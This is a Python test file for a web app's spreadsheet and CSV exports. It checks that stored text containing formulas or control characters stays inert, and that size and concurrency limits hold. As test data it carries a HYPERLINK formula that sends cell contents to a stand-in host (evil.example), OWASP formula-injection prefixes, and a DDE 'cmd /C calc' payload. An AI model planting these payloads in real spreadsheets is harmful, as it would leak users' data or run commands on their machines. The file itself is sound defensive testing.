"""Hostile exports (issue 13): formulas and control characters in stored text, exports too
large or too many at once. Every workbook and CSV we write keeps people's text as text; an
export never holds a pooled connection while it formats, and never queues without bound."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx2
import psycopg
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell, MergedCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from api.app import create_app
from layers.db.settings import Settings
from layers.io import exports, xlsx
from layers.supervision import score_sheet
from layers.supervision.scores import Score

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看整改要求")'
# OWASP's formula starts, each at the head of a description.
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
CONTROL = "路灯\x07不亮\x1b[0m\x00"
PROBLEM = "application/problem+json"


def _describe(dsn: str, texts: list[str]) -> None:
    """Give the stored issues these descriptions, in turn (as an import or an old version
    of the app may have stored them)."""
    with psycopg.connect(dsn) as conn:
        conn.execute("UPDATE issue SET description = (%s::text[])[1 + id %% %s]",
                     [texts, len(texts)])


def _column(content: bytes, field: str, header_row: int = 2) -> list[Cell | MergedCell]:
    sheet = load_workbook(io.BytesIO(content), data_only=False).active
    assert sheet is not None
    index = [c.value for c in sheet[header_row]].index(field) + 1
    cells = [sheet.cell(r, index) for r in range(header_row + 1, sheet.max_row + 1)]
    assert cells
    return cells


def test_issue_workbook_keeps_a_formula_description_as_text(demo_client: TestClient,
                                                            demo_dsn: str) -> None:
    _describe(demo_dsn, [FORMULA])
    response = demo_client.get("/api/v1/exports/issues", params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    cells = _column(response.content, "description")
    assert {(c.data_type, c.value) for c in cells} == {("s", FORMULA)}


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(demo_client: TestClient,
                                                              demo_dsn: str) -> None:
    _describe(demo_dsn, STARTS)
    response = demo_client.get("/api/v1/exports/issues", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert {r["description"] for r in rows} == {"'" + s for s in STARTS}
    assert all(float(r["lon"]) > 100 for r in rows)  # numbers stay numbers


def test_a_control_character_in_one_description_does_not_fail_the_workbook(
        demo_client: TestClient, demo_dsn: str) -> None:
    with psycopg.connect(demo_dsn) as conn:
        conn.execute("UPDATE issue SET description = %s WHERE id = (SELECT min(id) FROM issue)",
                     [CONTROL.replace("\x00", "")])  # PostgreSQL text cannot hold NUL
    response = demo_client.get("/api/v1/exports/issues", params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    assert "路灯不亮[0m" in {c.value for c in _column(response.content, "description")}


def test_order_workbook_keeps_formula_text_as_text(
        demo_client: TestClient, demo_dsn: str,
        bearer_for: Callable[..., dict[str, str]]) -> None:
    _describe(demo_dsn, [FORMULA, CONTROL.replace("\x00", "")])
    written = demo_client.post("/api/v1/orders", headers=bearer_for(demo_dsn, "supervisor"),
                               json={})
    assert written.status_code == 201, written.text
    code = written.json()[0]["code"]
    response = demo_client.get(f"/api/v1/orders/{code}/xlsx")
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content), data_only=False).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value in (FORMULA, "路灯不亮[0m")]
    assert cells and {c.data_type for c in cells} == {"s"}
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_score_workbook_keeps_names_as_text() -> None:
    rows = [Score(rank=1, code="=cmd|' /C calc'!A0", name="@SUM(A1)" + CONTROL,
                  kind="territorial", layer=None, issues=3, open=0, overdue_open=0,
                  points_at_risk=0.0, points_lost=0.0, reworks=0, rework_cases=2,
                  rework_rate=0.5, rework_rate_low=0.095, rework_rate_high=0.905,
                  rework_rate_adjusted=0.5, on_time_cases=0, on_time_rate=None,
                  on_time_rate_low=None, on_time_rate_high=None, on_time_rate_adjusted=None,
                  avg_hours_to_rectify=None, too_few_cases=False)]
    since, until = datetime(2026, 5, 1, tzinfo=UTC), datetime(2026, 6, 1, tzinfo=UTC)
    content = score_sheet.workbook(rows, "unit", since, until, zone=UTC, min_cases=20)
    # four title lines (title, English title, the rates' explanation in Chinese and English)
    code, name = _column(content, "code", 6)[0], _column(content, "name", 6)[0]
    assert (code.data_type, code.value) == ("s", "=cmd|' /C calc'!A0")
    assert (name.data_type, name.value) == ("s", "@SUM(A1)路灯不亮[0m")
    assert _column(content, "rework_rate", 6)[0].data_type == "n"


def test_the_issue_workbook_streams_through_a_write_only_sheet(
        demo_dsn: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A write-only sheet has no random access: the old quadratic `sheet[sheet.max_row]` per
    # row cannot come back, and rows go to disk as they are written.
    sheets: list[object] = []
    write_table = xlsx.write_table

    def spy(sheet: Any, *args: Any, **kwargs: Any) -> int:
        sheets.append(sheet)
        return write_table(sheet, *args, **kwargs)

    monkeypatch.setattr(xlsx, "write_table", spy)
    with psycopg.connect(demo_dsn) as conn:
        written = exports.export_layer(conn, "issues", tmp_path / "issues.xlsx", fmt="xlsx")
    assert written > 1000
    assert sheets and all(isinstance(s, WriteOnlyWorksheet) for s in sheets)


def test_an_xlsx_export_over_one_sheet_is_refused_with_advice(
        demo_client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 100)
    refused = demo_client.get("/api/v1/exports/issues", params={"format": "xlsx"})
    assert refused.status_code == 422
    assert refused.headers["content-type"] == PROBLEM
    assert "CSV" in refused.json()["detail"] and "GeoPackage" in refused.json()["detail"]
    assert demo_client.get("/api/v1/exports/issues",
                           params={"format": "csv"}).status_code == 200


def test_a_failure_while_formatting_is_a_problem_and_frees_the_slot(
        demo_client: TestClient, demo_dsn: str) -> None:
    # One site too detailed for an Excel cell: the workbook fails after the connection was
    # handed back, before anything was sent.
    with psycopg.connect(demo_dsn) as conn:
        conn.execute("UPDATE site SET geom = ST_Buffer(ST_Centroid(geom), 0.001, 2000)"
                     " WHERE id = (SELECT min(id) FROM site WHERE layer = 'market')")
    for _ in range(3):  # more than export_concurrency: no slot may leak
        failed = demo_client.get("/api/v1/exports/market", params={"format": "xlsx"})
        assert failed.status_code == 422, failed.text
        assert failed.headers["content-type"] == PROBLEM
        assert "GeoPackage" in failed.json()["detail"]
    assert demo_client.get("/api/v1/exports/market",
                           params={"format": "gpkg"}).status_code == 200


def _app(dsn: str, tmp_path: Path, **settings: Any) -> TestClient:
    return TestClient(create_app(Settings(database_url=dsn, data_dir=tmp_path, **settings)))


def _while_formatting(monkeypatch: pytest.MonkeyPatch, request: Callable[[], httpx2.Response],
                      *, once: bool = False) -> list[httpx2.Response]:
    """The answers to ``request``, sent each time an export formats a table (or only the first
    time, ``once``): a request made while an export holds what it holds then."""
    seen: list[httpx2.Response] = []
    write_table = xlsx.write_table

    def spy(*args: Any, **kwargs: Any) -> int:
        if not (once and seen):
            seen.append(request())
        return write_table(*args, **kwargs)

    monkeypatch.setattr(xlsx, "write_table", spy)
    return seen


def test_an_export_hands_its_connection_back_before_formatting(
        demo_dsn: str, tmp_path: Path, bearer_for: Callable[..., dict[str, str]],
        monkeypatch: pytest.MonkeyPatch) -> None:
    seen = _while_formatting(monkeypatch, lambda: client.get("/health"))
    with _app(demo_dsn, tmp_path, pool_min_size=1, pool_max_size=1, pool_timeout=1.0
              ) as client:
        client.headers.update(bearer_for(demo_dsn, "viewer"))
        export = client.get("/api/v1/exports/issues", params={"format": "xlsx"})
    assert export.status_code == 200, export.text
    assert [r.status_code for r in seen] == [200]


def test_an_export_beyond_the_concurrency_limit_hears_503_at_once(
        demo_dsn: str, tmp_path: Path, bearer_for: Callable[..., dict[str, str]],
        monkeypatch: pytest.MonkeyPatch) -> None:
    # The second export starts while the first formats.
    seen = _while_formatting(monkeypatch, lambda: client.get(
        "/api/v1/exports/issues", params={"format": "csv"}), once=True)
    with _app(demo_dsn, tmp_path, export_concurrency=1, pool_max_size=4) as client:
        client.headers.update(bearer_for(demo_dsn, "viewer"))
        first = client.get("/api/v1/exports/market", params={"format": "xlsx"})
        after = client.get("/api/v1/exports/issues", params={"format": "csv"})
    assert (first.status_code, after.status_code) == (200, 200)
    busy = seen[0]
    assert busy.status_code == 503
    assert busy.headers["content-type"] == PROBLEM and busy.headers["retry-after"]
    assert busy.json()["code"] == "exports-busy"
